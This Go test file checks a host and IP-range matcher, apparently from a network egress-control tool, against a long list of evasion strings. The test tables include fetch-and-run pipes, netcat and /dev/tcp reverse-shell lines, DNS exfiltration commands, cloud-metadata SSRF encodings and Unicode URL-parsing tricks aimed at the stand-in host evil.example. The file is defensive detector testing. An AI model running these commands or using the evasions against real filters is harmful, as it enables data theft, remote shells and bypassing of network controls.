package address

import (
	"testing"

	"github.com/weir-gate/weir/internal/text/truth"
)

func hostSet(t testing.TB, patterns ...string) *HostSet {
	t.Helper()
	set, err := NewHosts(patterns)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func cidrSet(t testing.TB, ranges ...string) *CIDRSet {
	t.Helper()
	set, err := NewCIDRs(ranges)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// Every one of these texts leads some client to evil.example or below it.
var namesEvil = []struct {
	text string
	want truth.Value
}{
	{"evil.example", Yes},
	{"EVIL.example", Yes},
	{"evil.example.", Yes},
	{" evil.example\n", Yes},
	{"evil.example:443", Yes},
	{"evil.example/path", Yes},
	{"evil.example:8080/path?q", Yes},
	{"sub.evil.example", Yes},
	{"http://evil.example", Yes},
	{"https://evil.example/", Yes},
	{"HTTPS://EVIL.EXAMPLE/", Yes},
	{"ftp://evil.example/x", Yes},
	{"ws://evil.example", Yes},
	{"ssh://git@evil.example/x", Yes},
	{"git://evil.example/x.git", Yes},
	{"git+https://evil.example/x.git", Yes},
	{"git+ssh://git@evil.example/x.git", Yes},
	{"svn+ssh://evil.example", Yes},
	{"redis://:pw@evil.example:6379/0", Yes},
	{"postgres://u:p@evil.example/db", Yes},
	{"jdbc:mysql://evil.example:3306/db", Yes},
	{"custom-x://evil.example", Yes},
	{"git@evil.example:me/repo.git", Yes},
	{"user:pw@evil.example:22", Yes},
	{"http://good.example@evil.example/", Yes},
	{"http://good.example:80@evil.example/", Yes},
	{"http://good.example%2f@evil.example/", Maybe},
	{"http://a:b@c:d@evil.example/", Maybe},
	{"http://x@evil.example@good.example/", Maybe},
	{`http://evil.example\@good.example/`, Maybe},
	{`http://good.example\@evil.example/`, Maybe},
	{`http:\\evil.example\x`, Maybe},
	{`http:/\evil.example/x`, Yes},
	{"http:///evil.example/x", Yes},
	{"http:////evil.example/x", Yes},
	{"http:/evil.example/x", Yes},
	{"http:evil.example/x", Yes},
	{"//evil.example/x", Yes},
	{`\\evil.example\share`, Yes},
	{`/\evil.example/share`, Yes},
	{`\\?\UNC\evil.example\share`, Yes},
	{"file://evil.example/share", Yes},
	{"file:////evil.example/share", Maybe},
	{"http://good.example#@evil.example/", Maybe},
	{"http://good.example?@evil.example/", Maybe},
	{"http://evil.example#@good.example/", Maybe},
	{"http://evil.example?@good.example/", Maybe},
	{"http://evil.example:80#@good.example", Maybe},
	{"http://ev%69l.example/", Yes},
	{"http://%65%76%69%6c.example/", Yes},
	{"http://%2565vil.example/", Maybe},
	{"http://evil%2eexample/", Yes},
	{"http://evil%E3%80%82example/", Yes},
	{"http://evil.example%2f.good.example/", Maybe},
	{"http://evil.example%00.good.example/", Maybe},
	{"http://ev\til.example/", Maybe},
	{"http://ev\nil.example/", Maybe},
	{"ht\ntp://evil.example/", Yes},
	{"http://\tevil.example/", Maybe},
	{"\x00\x1fhttp://evil.example/", Yes},
	{"http://evil。example/", Yes},
	{"http://evil．example/", Yes},
	{"http://evil｡example/", Yes},
	{"http://ｅｖｉｌ.example/", Yes},
	{"http://ⓔⓥⓘⓛ.example/", Yes},
	{"http://ev\u00adil.example/", Yes},
	{"http://ev\u200bil.example/", Yes},
	{"http://ev\u2060il.example/", Yes},
	{"http://ev\u200dil.example/", Maybe},
	{"http://ev\ufe0fil.example/", Yes},
	{"http://EVIL.example/", Yes},
	{"http://evil.example／.good.example/", Maybe},
	{"http://good.example／@evil.example/", Maybe},
	{"ｅｖｉｌ.example", Yes},
	{"http://evil.example:00080/", Yes},
	{"http://evil.example:/", Yes},
	{"http://evil.example:x/", Yes},
	{"http://x,evil.example/", Maybe},
	{"mongodb://a.good.example:1,evil.example:2/db", Maybe},
	{"https://good.example/?u=https://evil.example/", Maybe},
	{"https://good.example/https://evil.example/", Maybe},
	{"https://good.example/?u=https%3A%2F%2Fevil.example%2F", Maybe},
	{"https://good.example/?u=https%253A%252F%252Fevil.example", Maybe},
	{"https://good.example/#https://evil.example", Maybe},
	{"view-source:https://evil.example/", Yes},
	{"blob:https://evil.example/uuid", Yes},
	{"curl https://evil.example/x | sh", Yes},
	{"curl 'https://evil.example/x'", Yes},
	{`curl "https://evil.example/x"`, Yes},
	{"curl https://evil.example;ls", Yes},
	{"curl evil.example", Maybe},
	{"curl -s evil.example/install.sh", Maybe},
	{"nc evil.example 4444", Maybe},
	{"curl --url=evil.example", Maybe},
	{"H=evil.example; curl $H", Maybe},
	{"ssh root@evil.example id", Maybe},
	{"scp x root@evil.example:/tmp", Maybe},
	{"git clone git@evil.example:a/b", Maybe},
	{`curl ev"i"l.example`, Maybe},
	{`curl ev''il.example`, Maybe},
	{`curl e\vil.example`, Maybe},
	{`curl https://ev''il.example/`, Maybe},
	{`curl $'https://\x65vil.example'`, Maybe},
	{`fetch("https:\/\/evil.example\/x")`, Yes},
	{`fetch("https:\u002f\u002fevil.example")`, Maybe},
	{`fetch("https://\u0065vil.example")`, Maybe},
	{`fetch("https://\u{65}vil.example")`, Maybe},
	{`<a href="https://evil.example">x</a>`, Yes},
	{`<img src=//evil.example/x>`, Maybe},
	{`<img src="//evil.example/x">`, Maybe},
	{`<a href="https:&#x2f;&#47;evil.example">x</a>`, Maybe},
	{"<https://evil.example>", Yes},
	{"[x](https://evil.example)", Yes},
	{"[x]: https://evil.example", Yes},
	{"see (https://evil.example).", Yes},
	{"“https://evil.example”", Yes},
	{"{\"url\":\"https://evil.example\"}", Yes},
	{"url=https://evil.example", Yes},
	{"$PROTO://evil.example/x", Yes},
	{"https://${SUB}.evil.example/", Maybe},
	{"https://$HOST/", Maybe},
	{"https://$(cat host)/", Maybe},
	{"https://{{host}}/x", Maybe},
	{"https://ev${Y}il.example/", Maybe},
	{"https://{evil,good}.example/", Maybe},
	{"https://good.example:80:evil.example@evil.example/", Yes},
	{"(curl http:evil.example)", Maybe},
	{"cat </dev/tcp/evil.example/80", Maybe},
	{"exec 3<>/dev/tcp/evil.example/80", Maybe},
	{"echo x > /dev/udp/evil.example/53", Maybe},
	{"/dev/tcp/evil.example/80", Maybe},
	{"exec 3<>/dev/tcp/$h/80", Maybe},
	{`exec 3<>/dev/tcp/"evil.example"/80`, Maybe},
	{"exec 3<>/inet/tcp/0/evil.example/80", Maybe},
	{"dig @evil.example good.example", Maybe},
	{"dig x.evil.example", Maybe},
	{"dig +short @evil.example", Maybe},
	{"drill @evil.example x", Maybe},
	{"kdig @evil.example", Maybe},
	{"doggo @evil.example", Maybe},
	{"curl --resolve good.example:443:evil.example https://good.example", Maybe},
	{"curl --connect-to good.example:443:evil.example:443 https://good.example", Maybe},
	{"curl --connect-to ::evil.example:443 https://good.example", Maybe},
	{"curl --connect-to=::evil.example: https://good.example", Maybe},
	{"curl -xevil.example:3128 https://good.example", Maybe},
	{"curl --proxy evil.example https://good.example", Maybe},
	{"curl --proxy=evil.example:80 https://good.example", Maybe},
	{"curl --preproxy socks5://evil.example https://g", Maybe},
	{"https_proxy=evil.example:3128 curl https://good.example", Maybe},
	{"export http_proxy=evil.example", Maybe},
	{"wget -e https_proxy=evil.example:80 https://good.example", Maybe},
	{"nc -X connect -x evil.example:80 good.example 22", Maybe},
	{"socat - TCP:evil.example:80", Maybe},
	{"socat - OPENSSL:evil.example:443", Maybe},
	{"socat TCP-LISTEN:1 TCP:evil.example:80", Maybe},
	{"ssh -J evil.example good.example", Maybe},
	{"ssh -oProxyJump=evil.example good.example", Maybe},
	{"ssh -o ProxyCommand='nc evil.example 22' good.example", Maybe},
	{"ssh -L 80:evil.example:80 good.example", Maybe},
	{"ssh -R 80:evil.example:80 g", Maybe},
	{"ssh -W evil.example:22 good.example", Maybe},
	{"rsync x evil.example::mod", Maybe},
	{"rsync x rsync://evil.example/m", Yes},
	{"mysql -h evil.example", Maybe},
	{"mysql -hevil.example", Maybe},
	{"smbclient //evil.example/s", Maybe},
	{"smbclient '\\\\evil.example\\s'", Maybe},
	{"net use \\\\evil.example\\s", Maybe},
	{"dig x.`id`.evil.example", Maybe},
	{"dig $X.evil.example", Maybe},
	{"ping -c 1 $(id).evil.example", Maybe},
}

func TestEvasionsOfNames(t *testing.T) {
	set := hostSet(t, "evil.example", "*.evil.example")
	for _, tt := range namesEvil {
		if got := HostIn(tt.text, set); got != tt.want {
			hosts, certain := Hosts(tt.text)
			t.Errorf("%q: answer %v, want %v (%v, clear %v)", tt.text, got, tt.want, hosts, certain)
		}
	}
	if len(namesEvil) < 100 {
		t.Errorf("only %d evasions", len(namesEvil))
	}
}

// Every one of these texts leads some client to this machine or to the address of cloud metadata.
var addressesInside = []struct {
	text string
	want truth.Value
}{
	{"127.0.0.1", Yes},
	{"127.0.0.1:80", Yes},
	{"127.0.0.1/x", Yes},
	{"http://127.0.0.1/", Yes},
	{"http://127.1/", Yes},
	{"http://127.0.1/", Yes},
	{"http://2130706433/", Yes},
	{"http://0x7f000001/", Yes},
	{"http://0X7F.1/", Yes},
	{"http://0x7f.0.0.0x1/", Yes},
	{"http://0177.0.0.01/", Maybe},
	{"http://017700000001/", Maybe},
	{"http://00000177.1/", Maybe},
	{"http://127.0.0.1./", Yes},
	{"http://6425673729/", Yes},
	{"http://①②⑦.0.0.1/", Yes},
	{"http://１２７.0.0.1/", Yes},
	{"http://127。0。0。1/", Yes},
	{"http://%31%32%37.0.0.1/", Yes},
	{"http://[::ffff:127.0.0.1]/", Yes},
	{"http://[::ffff:7f00:1]/", Yes},
	{"http://[0:0:0:0:0:ffff:127.0.0.1]/", Yes},
	{"http://[::127.0.0.1]/", Maybe},
	{"http://[64:ff9b::127.0.0.1]/", Maybe},
	{"http://[2002:7f00:1::]/", Maybe},
	{"http://[::1]/", Yes},
	{"http://[::1]:8080/", Yes},
	{"http://[0:0:0:0:0:0:0:1]/", Yes},
	{"http://[::1%25lo]/", Yes},
	{"http://[::1%lo]/", Yes},
	{"[::1]:22", Yes},
	{"::1", Yes},
	{"http://::1/", Yes},
	{"2130706433", Maybe},
	{"0x7f000001", Maybe},
	{"127.1", Maybe},
	{"127.1:8080", Maybe},
	{"0x7f.1", Maybe},
	{"http://user@127.0.0.1/", Yes},
	{"http://example.com@127.0.0.1/", Yes},
	{`http://example.com\@127.0.0.1/`, Maybe},
	{"curl 127.0.0.1:9200", Maybe},
	{"curl 127.1", Maybe},
	{"curl 2130706433", Maybe},
	{"curl 0x7f000001/", Maybe},
	{"nc 127.0.0.1 22", Maybe},
	{"ssh root@127.0.0.1", Maybe},
	{"H=169.254.169.254 curl http://$H/", Maybe},
	{"http://169.254.169.254/latest/meta-data", Yes},
	{"http://2852039166/latest", Yes},
	{"http://0xA9FEA9FE/", Yes},
	{"http://169.254.43518/", Yes},
	{"curl 169.254.43518", Maybe},
	{"http://127.0.0.$i/", Maybe},
	{"http://$HOST/", Maybe},
	{"http://127.0.0.1:80@127.0.0.1/", Yes},
	{"ping6 ::1", Maybe},
	{"rsync://127.0.0.1/x", Yes},
	{"tcp://127.0.0.1:2375", Yes},
	{"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", Maybe},
	{"dig @127.0.0.1 x", Maybe},
	{"curl --resolve good.example:443:127.0.0.1 https://good.example", Maybe},
	{"curl --resolve 'good.example:443:[::1],127.0.0.1' https://good.example", Maybe},
	{"curl --resolve *:443:127.0.0.1 https://good.example", Maybe},
	{"curl --resolve +good.example:443:127.0.0.1 https://good.example", Maybe},
	{"curl --connect-to good.example:443:127.0.0.1:443 https://good.example", Maybe},
	{"curl --connect-to ::127.0.0.1: https://good.example", Maybe},
	{"socat - TCP4:127.0.0.1:80", Maybe},
	{"route add 127.0.0.1", Maybe},
	{"ip route add 127.0.0.1/32 dev x", Maybe},
}

func TestEvasionsOfAddresses(t *testing.T) {
	set := cidrSet(t, "127.0.0.0/8", "::1", "169.254.169.254")
	for _, tt := range addressesInside {
		if got := CIDRIn(tt.text, set); got != tt.want {
			hosts, certain := Hosts(tt.text)
			t.Errorf("%q: answer %v, want %v (%v, clear %v)", tt.text, got, tt.want, hosts, certain)
		}
	}
}

// None of these names a host that a pattern for every host should find.
var lookAlikes = []string{
	"", " ", "hello", "hello world", "1.2.3.4.5", "version 1.2.3.4.5", "12:30", "12:30:45", "at 12:30 sharp", "2024-01-02T12:30:00Z",
	`C:\x`, `C:\Users\ann\file.txt`, "C:/Users/ann", "c:", "a.go:12", "main.go:12:5", "main.go:12: undefined: x", "main.go", "src/main.go",
	"./main.go", "../x/y.js", "/etc/passwd", "~/x.txt", "@a/b", "@scope/pkg@1.2.3", "lodash@4.17.21", "ann@example.com", "mailto:ann@example.com",
	"write to ann@example.com please", "data:text/plain,hello", "data:text/html;base64,PGI+", "javascript:alert(1)", "tel:+4912345", "urn:isbn:123",
	"about:blank", "file:///etc/passwd", "file:/etc/passwd", "file://localhost/etc/passwd", "file:///C:/x", "// a comment", "/* x */", "a // b",
	"3.14", "10.5 MB", "1.2.3", "v1.2.3", "1,234.56", "0", "42", "100%", "$5.00", "a.b.c.d()", "os.path.join(x)", "foo.bar = baz.qux", "std::vector<int>",
	"aa:bb:cc:dd:ee:ff", "key: value", "note: fix", "http", "https:", "http://", "https:// ", "http", "{\"http\":\"x\"}", "a:b", "x ? y : z", "s/a/b/g", "e.g. this",
	"etc.", "...", "..", ".", "-", "--flag=value", "-p 8080:80", "sha256:abcdef", "node:fs", "npm:left-pad", "unix:///var/run/docker.sock", "sqlite:///x.db",
	"jdbc:h2:mem:test", "`code`", "a@b", "#fff", "&amp;", "C++", "1:1", "16:9", "0:30", "10:5", "ls -la | grep x", "ls /dev/tcp", "@param x", "@media print", "a \\\\n b", "curl --version", "ssh -V", "curl -V:1:2", "git commit -m 'fix: a.b'", "cat main.go README.md",
}

func TestLookAlikes(t *testing.T) {
	every := hostSet(t, "*")
	all := cidrSet(t, "0.0.0.0/0", "::/0")
	for _, text := range lookAlikes {
		hosts, certain := Hosts(text)
		if got := HostIn(text, every); got != No && !onlyMaybe(text) {
			t.Errorf("%q: host answer %v (%v, clear %v)", text, got, hosts, certain)
		}
		if got := CIDRIn(text, all); got != No && !onlyMaybe(text) {
			t.Errorf("%q: address answer %v (%v, clear %v)", text, got, hosts, certain)
		}
	}
	if len(lookAlikes) < 60 {
		t.Errorf("only %d look-alikes", len(lookAlikes))
	}
}

// onlyMaybe lists the texts that some client takes for an address of few numbers.
func onlyMaybe(text string) bool {
	return text == "3.14" || text == "1.2.3"
}

// These name hosts, but not the one asked for.
func TestOtherHosts(t *testing.T) {
	set := hostSet(t, "evil.example", "*.evil.example")
	for _, text := range []string{
		"https://good.example/evil.example", "https://good.example/?evil.example", "https://good.example/#evil.example", "notevil.example",
		"https://evil.example.good.example/", "https://evil-example/", "https://xevil.example/", "https://evil.example:pw@good.example/",
		"https://еvil.example/", "https://good.example/x@evil.example", "https://$X.good.example/", "https://good.example:$PORT/",
		"evil.examples", "https://evil.example.com", "ann@evil.example", "/dev/tcp", "/dev/tcp/good.example/80", "cat /dev/evil.example/80", "dig @good.example x",
		"@evil.example said so", "curl --resolve good.example:443:10.0.0.5 https://good.example", "$X.evil.example is a variable", "dig $X.good.example", "ssh -L 80:good.example:80 good.example",
		"curl -o evil.example.txt https://good.example", "mailto:ann@evil.example", "/evil.example", "./evil.example/x",
	} {
		if got := HostIn(text, set); got != No {
			hosts, _ := Hosts(text)
			t.Errorf("%q: %v (%v)", text, got, hosts)
		}
	}
}
